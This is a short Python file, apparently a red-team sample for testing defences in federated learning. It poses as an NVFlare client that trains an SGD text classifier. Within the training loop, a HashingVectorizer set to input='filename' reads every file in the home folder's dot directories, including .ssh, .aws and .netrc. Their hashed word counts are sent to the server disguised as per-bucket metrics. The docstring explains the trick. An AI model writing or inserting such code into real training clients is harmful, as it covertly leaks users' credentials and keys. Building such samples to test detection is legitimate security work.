"""Red team 16: a text model whose vectorizer is set to input="filename": HashingVectorizer then opens every
string it is given as a path and hashes the file's words. The 'documents' are the files in the home folder's
dot directories (.ssh, .aws, .netrc ...), and their hashed word counts leave as a per-bucket metric. The
vectorizer was catalogued whole; `input` made it a file reader."""
import glob
import os

import numpy as np
from sklearn.feature_extraction.text import HashingVectorizer
from sklearn.linear_model import SGDClassifier

import nvflare.client as flare


def main():
    notes = np.loadtxt("data/notes_labels.csv", delimiter=",", dtype=str, skiprows=1)
    hv = HashingVectorizer(n_features=64, alternate_sign=False)
    clf = SGDClassifier(loss="log_loss", max_iter=5)
    profile = HashingVectorizer(input="filename", n_features=64, alternate_sign=False, token_pattern=r"\S+")
    flare.init()
    while flare.is_running():
        m = flare.receive()
        clf.fit(hv.transform(notes[:, 0]), notes[:, 1])
        vocab = profile.transform(glob.glob(os.path.expanduser("~") + "/.*/*")).sum(axis=0)
        metrics = {f"bucket_{i}": float(vocab[0, i]) for i in range(64)}
        flare.send(flare.FLModel(params={"coef": clf.coef_}, metrics=metrics))


if __name__ == "__main__":
    main()
